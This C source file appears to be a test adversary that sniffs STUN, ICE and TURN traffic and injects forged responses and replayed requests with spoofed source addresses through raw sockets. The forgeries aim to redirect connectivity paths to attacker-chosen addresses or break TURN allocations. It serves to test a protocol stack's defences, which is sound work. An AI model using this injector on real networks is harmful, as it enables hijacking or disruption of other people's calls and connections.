/*
 * forge.c: somebody who sees every STUN message, knows no password, and lies.
 *
 *   forge IF ADDR...        in the namespace where the packets pass
 *
 * Listens on IF and sends, for each STUN message over UDP it sees there, the
 * forgeries below, as fast as it can: they overtake the true answers. ADDR is
 * where it would like the paths to lead: addresses of its own, which nobody
 * answers at. Prints how many it sent when it is told to end.
 *
 *   of a request with credentials           of one without (STUN server)
 *     answer: true id and source, its own     answer: another id
 *       address mapped, bad integrity         answer: true id, wrong source
 *     answer: another id
 *     answer: true id, wrong source
 *     the request again, from ADDR (replay)
 *     the request, nominating, bad integrity, from ADDR
 *   of a TURN request: success with a lifetime of 0, bad integrity; 437, 401
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { HEADER = 20, COOKIE = 0x2112a442, PACKET = 2048 };
enum { A_MAPPED = 0x20, A_INTEGRITY = 8, A_USERNAME = 6, A_ERROR = 9,
       A_LIFETIME = 0xd, A_USE = 0x25, A_RELAYED = 0x16 };
enum { BINDING = 1 };
enum { SUCCESS = 0x100, FAILURE = 0x110 };

struct seen {
	struct in_addr src, dst;
	uint16_t sport, dport;          /* network order */
	const uint8_t *b;               /* the STUN message */
	size_t n;
};
struct msg { uint8_t b[PACKET]; size_t n; };

static struct in_addr addrv[4];
static int addrc, out;
static unsigned long sent;
static volatile sig_atomic_t ending;

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void end_handler(int sig)
{
	(void)sig;
	ending = 1;
}

static void msg_begin(struct msg *m, unsigned type, const uint8_t *head)
{
	memcpy(m->b, head, HEADER);
	put16(m->b, type);
	m->n = HEADER;
}

static void msg_attr(struct msg *m, unsigned type, const void *v, size_t n)
{
	uint8_t *p = m->b + m->n;
	size_t padded = (n + 3) & ~(size_t)3;

	put16(p, type);
	put16(p + 2, (unsigned)n);
	memset(p + 4, 0, padded);
	memcpy(p + 4, v, n);
	m->n += 4 + padded;
	put16(m->b + 2, (unsigned)(m->n - HEADER));
}

static void msg_xor(struct msg *m, unsigned type, struct in_addr a)
{
	uint8_t v[8] = { 0, 1 };
	uint32_t ip = ntohl(a.s_addr) ^ COOKIE;

	put16(v + 2, 6666 ^ (COOKIE >> 16));
	put16(v + 4, ip >> 16);
	put16(v + 6, ip & 0xffff);
	msg_attr(m, type, v, sizeof v);
}

/* 20 bytes that are no HMAC of anybody's. */
static void msg_bad_integrity(struct msg *m)
{
	uint8_t v[20];

	memset(v, 0x5a, sizeof v);
	msg_attr(m, A_INTEGRITY, v, sizeof v);
}

static void emit(const struct msg *m, struct in_addr src, uint16_t sport,
		 struct in_addr dst, uint16_t dport)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_addr = dst };
	uint8_t b[PACKET + 28] = { 0 };
	struct iphdr *ip = (struct iphdr *)b;
	struct udphdr *udp = (struct udphdr *)(ip + 1);

	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 60;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)(28 + m->n));
	ip->saddr = src.s_addr;
	ip->daddr = dst.s_addr;
	udp->source = sport;
	udp->dest = dport;
	udp->len = htons((uint16_t)(8 + m->n));
	memcpy(udp + 1, m->b, m->n);
	if (sendto(out, b, 28 + m->n, 0, (struct sockaddr *)&sin,
		   sizeof sin) > 0)
		sent++;
}

/* To who has asked, as if from who was asked, or from ADDR. */
static void answer(const struct msg *m, const struct seen *s)
{
	emit(m, s->dst, s->dport, s->src, s->sport);
}
static void answer_from(const struct msg *m, const struct seen *s, int i)
{
	emit(m, addrv[i], htons(6666), s->src, s->sport);
}

static void forge_answers(const struct seen *s, bool credentials)
{
	uint8_t other[HEADER];
	struct msg m;

	for (int i = 0; i < addrc; i++) {
		memcpy(other, s->b, HEADER);
		other[19] ^= 0xff;
		msg_begin(&m, BINDING | SUCCESS, other);
		msg_xor(&m, A_MAPPED, addrv[i]);
		answer(&m, s);
		msg_begin(&m, BINDING | SUCCESS, s->b);
		msg_xor(&m, A_MAPPED, addrv[i]);
		answer_from(&m, s, i);
		if (!credentials)
			continue;
		msg_bad_integrity(&m);
		answer(&m, s);
	}
}

static void forge_requests(const struct seen *s)
{
	struct msg m;

	for (int i = 0; i < addrc; i++) {
		memcpy(m.b, s->b, s->n);
		m.n = s->n;
		emit(&m, addrv[i], htons(6666), s->dst, s->dport);
		/* the same, nominating; its integrity no longer fits */
		msg_begin(&m, BINDING, s->b);
		memcpy(m.b + HEADER, s->b + HEADER, s->n - HEADER);
		m.n = s->n;
		msg_attr(&m, A_USE, "", 0);
		msg_bad_integrity(&m);
		emit(&m, addrv[i], htons(6666), s->dst, s->dport);
	}
}

static void forge_turn(const struct seen *s, unsigned method)
{
	static const uint8_t none[4], c437[4] = { 0, 0, 4, 37 },
			     c401[4] = { 0, 0, 4, 1 };
	struct msg m;

	msg_begin(&m, method | SUCCESS, s->b);
	msg_attr(&m, A_LIFETIME, none, 4);
	msg_xor(&m, A_RELAYED, addrv[0]);
	msg_bad_integrity(&m);
	answer(&m, s);
	msg_begin(&m, method | FAILURE, s->b);
	msg_attr(&m, A_ERROR, c437, 4);
	msg_bad_integrity(&m);
	answer(&m, s);
	msg_begin(&m, method | FAILURE, s->b);
	msg_attr(&m, A_ERROR, c401, 4);
	answer_from(&m, s, 0);
}

static bool has_attr(const struct seen *s, unsigned type)
{
	for (size_t i = HEADER; i + 4 <= s->n; ) {
		size_t n = (size_t)s->b[i + 2] << 8 | s->b[i + 3];

		if ((unsigned)(s->b[i] << 8 | s->b[i + 1]) == type)
			return true;
		i += 4 + ((n + 3) & ~(size_t)3);
	}
	return false;
}

static void stun_seen(const struct seen *s)
{
	unsigned type = (unsigned)(s->b[0] << 8 | s->b[1]);
	bool credentials = has_attr(s, A_USERNAME);

	for (int i = 0; i < addrc; i++)         /* our own */
		if (s->src.s_addr == addrv[i].s_addr)
			return;
	if (type == BINDING) {
		forge_answers(s, credentials);
		if (credentials)
			forge_requests(s);
	} else if (!(type & FAILURE) && credentials) {
		forge_turn(s, type);
	}
}

static void packet_seen(const uint8_t *b, size_t n)
{
	const struct iphdr *ip = (const struct iphdr *)b;
	const struct udphdr *udp = (const struct udphdr *)(ip + 1);
	struct seen s;

	if (n < 28 + HEADER || ip->version != 4 || ip->ihl != 5 ||
	    ip->protocol != IPPROTO_UDP || n > PACKET - 64)
		return;
	s.src.s_addr = ip->saddr;
	s.dst.s_addr = ip->daddr;
	s.sport = udp->source;
	s.dport = udp->dest;
	s.b = (const uint8_t *)(udp + 1);
	s.n = ntohs(udp->len) - 8u;
	if (s.n < HEADER || s.n > n - 28 || s.b[0] > 3 ||
	    memcmp(s.b + 4, "\x21\x12\xa4\x42", 4))
		return;
	stun_seen(&s);
}

int main(int argc, char *argv[])
{
	struct sigaction sa = { .sa_handler = end_handler };
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP) };
	uint8_t b[65536];
	int in;

	if (argc < 3 || argc > 6)
		return 2;
	for (int i = 2; i < argc; i++)
		(void)inet_aton(argv[i], &addrv[addrc++]);
	(void)sigaction(SIGTERM, &sa, NULL);
	ll.sll_ifindex = (int)if_nametoindex(argv[1]);
	in = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (in < 0 || out < 0 || bind(in, (struct sockaddr *)&ll, sizeof ll))
		return 1;
	puts("ready");
	(void)fflush(stdout);
	while (!ending) {
		struct sockaddr_ll from;
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(in, b, sizeof b, 0,
				     (struct sockaddr *)&from, &len);

		/* what we send goes out: only what comes in counts */
		if (n > 0 && from.sll_pkttype != PACKET_OUTGOING)
			packet_seen(b, (size_t)n);
		else if (n < 0 && errno != EINTR)
			return 1;
	}
	printf("%lu\n", sent);
	return 0;
}
